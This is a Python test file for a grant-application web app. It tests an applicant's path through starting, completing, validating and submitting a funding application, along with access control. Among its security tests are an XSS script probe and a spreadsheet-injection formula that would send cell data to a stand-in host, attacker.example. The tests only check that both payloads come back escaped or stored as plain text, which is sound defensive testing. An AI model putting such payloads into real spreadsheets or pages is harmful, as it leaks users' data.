"""The applicant's pages, as a voluntary group's coordinator uses them: the open rounds, starting an
application, its task list section by section, checking and submitting. Each refusal says what to fix and
changes nothing; another organisation's people never see the application."""

import datetime as dt

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from markupsafe import escape

from saferhub.grants import services
from saferhub.grants.forms.applying import NO_ORGANISATION
from saferhub.grants.models import Application, ApplicationSection, ApplicationStatus
from saferhub.grants.tests.factories import ApplicantMemberFactory, FundFactory, GrantRoundFactory

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def section_url(application, section):
    return reverse(f"grants:application-{section}", kwargs={"application_id": application.public_id})


def application_url(application):
    return reverse("grants:application", kwargs={"application_id": application.public_id})


def check_url(application):
    return reverse("grants:application-check", kwargs={"application_id": application.public_id})


def round_url(grant_round):
    return reverse("grants:apply-round", kwargs={"grant_round_id": grant_round.public_id})


def every_section(world):
    """A valid form for each section, in the order of the task list: £12,000 asked for, and budgeted."""
    return {
        ApplicationSection.ORGANISATION: {
            "registered_number": "sc012345",
            "address": "Unit 4, Mill Lane\nAlpha AB1 2CD",
            "phone": "01632 960 001",
        },
        ApplicationSection.PROJECT: {
            "title": "Safer streets after school",
            "summary": "Detached youth work in the town centre.",
            "amount_requested_pence": "£12,000",
            "starts_on": "2026-09-01",
            "ends_on": "2027-03-31",
        },
        ApplicationSection.PRIORITIES: {
            "priorities": [str(world.records["a"]["priority"].public_id)],
            "themes": [str(world.records["a"]["theme"].public_id)],
        },
        ApplicationSection.OUTCOMES: {
            "text_1": "Fewer young people drawn into anti-social behaviour",
            "measure_1": "Referrals from the police",
            "target_1": "40",
            "text_3": "More young people in clubs",
            "measure_3": "Club members",
            "target_3": "12.5",
        },
        ApplicationSection.BUDGET: {
            "item_1": "Youth workers",
            "amount_1": "10,000",
            "item_2": "Venue hire",
            "amount_2": "2000.00",
        },
        ApplicationSection.MATCH_FUNDING: {
            "source_1": "Town council",
            "amount_1": "1,500",
            "confirmed_1": "yes",
        },
        ApplicationSection.QUESTIONS: {"q1": "Through the schools and the youth club."},
    }


@pytest.fixture
def applicant(client, funding):
    """The test's client, signed in as the youth group's coordinator."""
    client.force_login(funding.applicant)
    return client


def started(applicant, funding, title="Safer streets"):
    response = applicant.post(round_url(funding.grant_round), {"title": title})
    application = Application.objects.get(contact=funding.applicant)
    assert response.status_code == 302 and response.url == application_url(application)
    return application


def every_section_saved(applicant, application, world):
    for section, data in every_section(world).items():
        response = applicant.post(section_url(application, section.value), data)
        assert response.status_code == 302, response.content.decode()[:3000]
        assert response.url == application_url(application)


def test_the_home_page_lists_your_applications_and_every_round_open_now(funding, world, applicant):
    services.application_start(
        actor=funding.other_applicant,
        grant_round=funding.grant_round,
        organisation=funding.other_applicant.applicant_memberships.get().organisation,
        title="Another club's project",
    )
    mine = started(applicant, funding, title="Safer streets")
    beta_fund = FundFactory(partnership=world.b, name="Beta locality fund")
    GrantRoundFactory(fund=beta_fund, title="Beta open round")
    now = timezone.now()
    GrantRoundFactory(
        fund=beta_fund, title="Closed round", opens_at=now - dt.timedelta(days=60), closes_at=now
    )
    GrantRoundFactory(
        fund=beta_fund,
        title="Future round",
        opens_at=now + dt.timedelta(days=1),
        closes_at=now + dt.timedelta(days=30),
    )
    page = applicant.get("/funding/").content.decode()
    assert mine.title in page and application_url(mine) in page and "Draft" in page
    assert "Another club's project" not in page
    assert funding.grant_round.title in page and world.a.name in page
    assert "Beta open round" in page and "Beta locality fund" in page and world.b.name in page
    assert "Closed round" not in page and "Future round" not in page


def test_the_round_page_says_what_the_round_funds_and_how_it_scores(funding, world, applicant):
    grant_round = funding.grant_round
    page = applicant.get(round_url(grant_round)).content.decode()
    assert grant_round.fund.name in page and world.a.name in page
    assert "£20,000.00" in page
    assert "Voluntary and community groups working in the partnership" in page
    assert "Fit with the partnership&#39;s priorities" in page and "Value for money" in page
    assert "How will you reach people who do not use services now?" in page
    assert "Start an application" in page


def test_a_round_not_yet_open_is_not_found_and_a_closed_one_takes_no_applications(funding, applicant):
    now = timezone.now()
    future = GrantRoundFactory(
        fund=funding.grant_round.fund,
        opens_at=now + dt.timedelta(days=1),
        closes_at=now + dt.timedelta(days=9),
    )
    assert applicant.get(round_url(future)).status_code == 404
    closed = GrantRoundFactory(
        fund=funding.grant_round.fund,
        opens_at=now - dt.timedelta(days=9),
        closes_at=now - dt.timedelta(days=1),
    )
    page = applicant.get(round_url(closed)).content.decode()
    assert "it takes no more applications" in page and "Start an application" not in page


def test_an_applicant_starts_fills_in_every_section_checks_and_submits(funding, world, applicant):
    application = started(applicant, funding)
    task_list = applicant.get(application_url(application)).content.decode()
    assert task_list.count("Not yet started") == len(ApplicationSection)
    for section in ApplicationSection:
        assert section_url(application, section.value) in task_list

    every_section_saved(applicant, application, world)
    task_list = applicant.get(application_url(application)).content.decode()
    assert "Not yet started" not in task_list and task_list.count("Completed") == len(ApplicationSection)

    check = applicant.get(check_url(application)).content.decode()
    for expected in (
        "SC012345",
        "01632 960 001",
        "Safer streets after school",
        "£12,000.00",
        "Business Crime",
        "Domestic Abuse",
        "Referrals from the police; target 40",
        "Club members; target 12.5",
        "Youth workers",
        "£10,000.00",
        "£1,500.00, confirmed",
        "Through the schools and the youth club.",
        "Submit the application",
    ):
        assert expected in check, expected
    assert check.count(">Change<") >= len(ApplicationSection)

    response = applicant.post(check_url(application))
    assert response.status_code == 302 and response.url == application_url(application)
    application.refresh_from_db()
    assert application.status == ApplicationStatus.SUBMITTED and application.submitted_at is not None
    assert application.answers == {
        "registered_number": "SC012345",
        "address": "Unit 4, Mill Lane\nAlpha AB1 2CD",
        "phone": "01632 960 001",
        "q1": "Through the schools and the youth club.",
    }
    assert (application.amount_requested_pence, application.starts_on, application.ends_on) == (
        1_200_000,
        dt.date(2026, 9, 1),
        dt.date(2027, 3, 31),
    )
    assert [(line.item, line.amount_pence) for line in application.budget_lines.all()] == [
        ("Youth workers", 1_000_000),
        ("Venue hire", 200_000),
    ]
    assert [(o.measure, str(o.target)) for o in application.outcomes.all()] == [
        ("Referrals from the police", "40.00"),
        ("Club members", "12.50"),
    ]
    assert [(m.source, m.amount_pence, m.confirmed) for m in application.match_funding.all()] == [
        ("Town council", 150_000, True)
    ]
    assert list(application.priorities.all()) == [world.records["a"]["priority"]]
    assert list(application.themes.all()) == [world.records["a"]["theme"]]

    page = applicant.get(application_url(application)).content.decode()
    assert "Application submitted" in page and "govuk-panel--confirmation" in page
    assert "Through the schools and the youth club." in page  # the answers, read-only
    assert ">Change<" not in page and "Check and submit" not in page


def test_someone_who_applies_for_two_organisations_chooses_which_applies(funding, applicant):
    second = ApplicantMemberFactory(user=funding.applicant, organisation__name="Parks friends").organisation
    response = applicant.post(round_url(funding.grant_round), {"title": "Safer parks"})
    assert response.status_code == 400
    assert "Select the organisation that is applying" in response.content.decode()
    assert not Application.objects.exists()
    response = applicant.post(
        round_url(funding.grant_round), {"title": "Safer parks", "organisation": str(second.public_id)}
    )
    assert response.status_code == 302
    assert Application.objects.get().organisation == second


def test_starting_is_refused_for_someone_who_applies_for_no_organisation(funding, sign_in):
    client = sign_in("nobody")
    page = client.get(round_url(funding.grant_round)).content.decode()
    assert "You do not apply for any organisation yet" in page and "Start an application" not in page
    response = client.post(round_url(funding.grant_round), {"title": "Sneaky"})
    assert response.status_code == 400
    assert NO_ORGANISATION in response.content.decode().replace("&#39;", "'")
    assert not Application.objects.exists()


def test_starting_is_refused_once_the_round_has_closed(funding, applicant):
    closes = funding.grant_round.closes_at
    with time_machine.travel(closes + dt.timedelta(minutes=1)):
        applicant.force_login(funding.applicant)  # signed in again: the session would have expired
        response = applicant.post(round_url(funding.grant_round), {"title": "Too late"})
    page = response.content.decode()
    assert response.status_code == 400
    assert f"This round closed at {timezone.localtime(closes):%H:%M}" in page
    assert "it takes no more applications" in page
    assert not Application.objects.exists()


REFUSED_SECTIONS = [
    (
        ApplicationSection.ORGANISATION,
        {"registered_number": "12#45", "address": "", "phone": "call us"},
        {
            "registered_number": "Enter the registered charity or company number in letters, numbers, spaces",
            "address": "Enter your organisation's address",
            "phone": "Enter a telephone number, like 01632 960 001",
        },
    ),
    (
        ApplicationSection.PROJECT,
        {
            "title": "Safer streets",
            "summary": "Youth work.",
            "amount_requested_pence": "lots",
            "starts_on": "2027-01-01",
            "ends_on": "2026-12-31",
        },
        {
            "amount_requested_pence": "Enter an amount in pounds, like 12000 or 12,000.50",
            "ends_on": "Enter an end date on or after the date the project starts",
        },
    ),
    (ApplicationSection.PRIORITIES, {}, {"priorities": "Select at least one priority the project serves"}),
    (
        ApplicationSection.OUTCOMES,
        {"text_1": "Fewer calls", "measure_1": "Calls", "target_1": "many", "text_2": "Safer parks"},
        {
            "target_1": "Outcome 1: enter the target as a number, like 40 or 12.5",
            "measure_2": "Outcome 2: enter how you will measure it",
            "target_2": "Outcome 2: enter the target number",
        },
    ),
    (
        ApplicationSection.OUTCOMES,
        {"text_1": " ", "measure_1": "", "target_1": ""},
        {"text_1": "Enter at least one outcome, with how you will measure it and its target"},
    ),
    (
        ApplicationSection.BUDGET,
        {
            "item_1": "Youth workers",
            "amount_1": "1000",
            "amount_2": "500",
            "item_3": "Venue",
            "amount_3": "12.345",
        },
        {
            "item_2": "Budget line 2: enter what the money is for",
            "amount_3": "Budget line 3: enter an amount in pounds and pence, with no more than 2 decimal",
        },
    ),
    (
        ApplicationSection.BUDGET,
        {},
        {"item_1": "Enter at least one budget line, with what it is for and its amount"},
    ),
    (
        ApplicationSection.MATCH_FUNDING,
        {"source_1": "Town council", "amount_1": "0", "source_2": "Lottery", "amount_2": "900"},
        {
            "amount_1": "Match funding 1: enter an amount of £0.01 or more",
            "confirmed_2": "Match funding 2: select whether the money is confirmed",
        },
    ),
    (ApplicationSection.QUESTIONS, {"q1": "  "}, {"q1": "Enter your answer to question 1"}),
]


@pytest.mark.parametrize(
    ("section", "data", "errors"),
    REFUSED_SECTIONS,
    ids=[f"{section.value}-{n}" for n, (section, _, _) in enumerate(REFUSED_SECTIONS)],
)
def test_a_section_refuses_what_it_cannot_take_saying_what_to_fix_on_its_field(
    funding, applicant, section, data, errors
):
    application = started(applicant, funding)
    response = applicant.post(section_url(application, section.value), data)
    page = response.content.decode().replace("&#39;", "'")
    assert response.status_code == 400
    for field, message in errors.items():
        assert message in page, message
        assert f'href="#id_{field}"' in page, field  # the error summary links to the field
        assert f'id="id_{field}-error"' in page, field  # and the field says it too
    application.refresh_from_db()
    assert application.sections_completed == []
    assert not application.budget_lines.exists() and not application.outcomes.exists()


def test_blank_rows_are_left_out_and_no_match_funding_is_an_answer(funding, applicant):
    application = started(applicant, funding)
    response = applicant.post(
        section_url(application, "budget"),
        {"item_1": "Youth workers", "amount_1": "900", "item_2": " ", "item_4": "Venue", "amount_4": "100"},
    )
    assert response.status_code == 302
    assert [(line.item, line.amount_pence) for line in application.budget_lines.all()] == [
        ("Youth workers", 90_000),
        ("Venue", 10_000),
    ]
    assert applicant.post(section_url(application, "match_funding"), {}).status_code == 302
    application.refresh_from_db()
    assert application.sections_completed == ["budget", "match_funding"]
    assert not application.match_funding.exists()
    page = applicant.get(check_url(application)).content.decode()
    assert "£1,000.00" in page  # the budget's total


def test_the_budget_page_shows_the_total_against_what_the_project_asks_for(funding, world, applicant):
    application = started(applicant, funding)
    every_section_saved(applicant, application, world)
    page = applicant.get(section_url(application, "budget")).content.decode()
    assert "The budget adds up to £12,000.00. The project asks for £12,000.00" in page
    assert 'value="10,000.00"' in page  # the saved lines come back in pounds


def test_a_submission_with_sections_missing_is_refused_naming_them(funding, world, applicant):
    application = started(applicant, funding)
    applicant.post(
        section_url(application, "organisation"), every_section(world)[ApplicationSection.ORGANISATION]
    )
    response = applicant.post(check_url(application))
    page = response.content.decode().replace("&#39;", "'")
    assert response.status_code == 400 and "There is a problem" in page
    assert (
        "Complete every section before you submit: The project, The priorities it serves, Outcomes and "
        "measures, Budget, Match funding, The round's questions"
    ) in page
    application.refresh_from_db()
    assert application.status == ApplicationStatus.DRAFT and application.submitted_at is None


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            {ApplicationSection.BUDGET: {"item_1": "Youth workers", "amount_1": "9,000"}},
            "The budget adds up to £9,000.00 but the application asks for £12,000.00: make them the same",
        ),
        (
            {
                ApplicationSection.PROJECT: {
                    "title": "Safer streets",
                    "summary": "Youth work.",
                    "amount_requested_pence": "25,000",
                    "starts_on": "2026-09-01",
                    "ends_on": "2027-03-31",
                },
                ApplicationSection.BUDGET: {"item_1": "Youth workers", "amount_1": "25,000"},
            },
            "The application asks for £25,000.00; this round funds a project up to £20,000.00",
        ),
    ],
    ids=["budget-not-adding-up", "too-much-asked"],
)
def test_a_submission_the_round_cannot_take_is_refused_with_the_reason(
    funding, world, applicant, change, message
):
    application = started(applicant, funding)
    every_section_saved(applicant, application, world)
    for section, data in change.items():
        assert applicant.post(section_url(application, section.value), data).status_code == 302
    response = applicant.post(check_url(application))
    assert response.status_code == 400 and message in response.content.decode()
    application.refresh_from_db()
    assert application.status == ApplicationStatus.DRAFT
    assert [step.kind for step in application.steps.all()] == ["start"]


def test_a_late_submission_is_refused_with_the_closing_time(funding, world, applicant):
    application = started(applicant, funding)
    every_section_saved(applicant, application, world)
    closes = funding.grant_round.closes_at
    with time_machine.travel(closes + dt.timedelta(minutes=1)):
        applicant.force_login(funding.applicant)  # signed in again: the session would have expired
        response = applicant.post(check_url(application))
    assert response.status_code == 400
    assert f"This round closed at {timezone.localtime(closes):%H:%M}" in response.content.decode()
    application.refresh_from_db()
    assert application.status == ApplicationStatus.DRAFT


def test_a_submitted_applications_sections_cannot_be_changed(funding, world, applicant):
    application = started(applicant, funding)
    every_section_saved(applicant, application, world)
    applicant.post(check_url(application))
    response = applicant.post(section_url(application, "questions"), {"q1": "Changed after the deadline"})
    assert response.status_code == 400
    assert "This application is submitted: it can be changed only while a draft" in response.content.decode()
    response = applicant.get(section_url(application, "questions"))
    assert response.status_code == 302 and response.url == application_url(application)
    again = applicant.post(check_url(application))
    assert again.status_code == 400 and "This application is submitted" in again.content.decode()
    application.refresh_from_db()
    assert application.answers["q1"] == "Through the schools and the youth club."
    assert [step.kind for step in application.steps.all()] == ["start", "submit"]


def test_another_organisations_member_gets_404_on_every_application_url(funding, world, applicant):
    application = started(applicant, funding)
    every_section_saved(applicant, application, world)
    urls = [
        application_url(application),
        check_url(application),
        *(section_url(application, section.value) for section in ApplicationSection),
    ]
    sections = every_section(world)
    for who in (funding.other_applicant, world.people["partnership_manager"]):
        client = Client()
        client.force_login(who)
        for url in urls:
            assert client.get(url).status_code == 404, url
        for section, data in sections.items():
            assert client.post(section_url(application, section.value), data).status_code == 404
        assert client.post(check_url(application)).status_code == 404
    application.refresh_from_db()
    assert application.status == ApplicationStatus.DRAFT
    assert application.answers["q1"] == "Through the schools and the youth club."


def test_html_typed_in_an_answer_is_escaped_on_every_page(funding, world, applicant, manager):
    application = started(applicant, funding, title=f"Safer streets {SCRIPT}")
    answers = every_section(world)
    answers[ApplicationSection.PROJECT]["title"] = f"Safer streets {SCRIPT}"
    answers[ApplicationSection.ORGANISATION]["address"] = f"1 High Street {SCRIPT}"
    answers[ApplicationSection.OUTCOMES]["measure_1"] = f"Referrals {SCRIPT}"
    answers[ApplicationSection.BUDGET]["item_1"] = f"Youth workers {SCRIPT}"
    answers[ApplicationSection.MATCH_FUNDING]["source_1"] = f"Council {SCRIPT}"
    answers[ApplicationSection.QUESTIONS]["q1"] = f"Through the schools {SCRIPT}"
    for section, data in answers.items():
        assert applicant.post(section_url(application, section.value), data).status_code == 302
    pages = {
        "home": applicant.get("/funding/"),
        "task list": applicant.get(application_url(application)),
        "check": applicant.get(check_url(application)),
        "budget": applicant.get(section_url(application, "budget")),
    }
    applicant.post(check_url(application))
    pages["submitted"] = applicant.get(application_url(application))
    staff = Client()
    staff.force_login(manager)
    pages["staff round page"] = staff.get(
        reverse("grants:round", kwargs={"slug": "alpha", "grant_round_id": funding.grant_round.public_id})
    )
    for name, response in pages.items():
        page = response.content.decode()
        assert response.status_code == 200, name
        assert SCRIPT not in page, name
        assert "Safer streets &lt;script&gt;alert(1)&lt;/script&gt;" in page, name
    for name in ("check", "submitted"):
        page = pages[name].content.decode()
        for typed in ("1 High Street", "Referrals", "Youth workers", "Council", "Through the schools"):
            assert f"{typed} &lt;script&gt;" in page, (name, typed)


def test_a_formula_typed_in_a_field_is_kept_as_text(funding, world, applicant):
    application = started(applicant, funding)
    answers = every_section(world)
    answers[ApplicationSection.PROJECT]["summary"] = FORMULA
    answers[ApplicationSection.QUESTIONS]["q1"] = "=1+1"
    answers[ApplicationSection.BUDGET]["item_2"] = "@SUM(A1:A9)"
    for section, data in answers.items():
        assert applicant.post(section_url(application, section.value), data).status_code == 302
    application.refresh_from_db()
    assert application.summary == FORMULA and application.answers["q1"] == "=1+1"
    assert application.budget_lines.last().item == "@SUM(A1:A9)"
    page = applicant.get(check_url(application)).content.decode()
    assert str(escape(FORMULA)) in page and "=1+1" in page and "@SUM(A1:A9)" in page


def test_priorities_are_chosen_only_from_the_current_plans_of_the_partnerships_the_fund_serves(
    funding, world, applicant
):
    application = started(applicant, funding)
    url = section_url(application, "priorities")
    response = applicant.post(url, {"priorities": [str(world.records["b"]["priority"].public_id)]})
    assert response.status_code == 400
    assert "Select priorities from the list" in response.content.decode()
    world.records["a"]["plan"].is_current = False
    world.records["a"]["plan"].save()
    assert (
        "none of the partnerships this fund serves has a current plan" in applicant.get(url).content.decode()
    )
    response = applicant.post(url, {})
    assert response.status_code == 400
    assert "none of the partnerships this fund serves has a current plan" in response.content.decode()
    assert not application.priorities.exists()
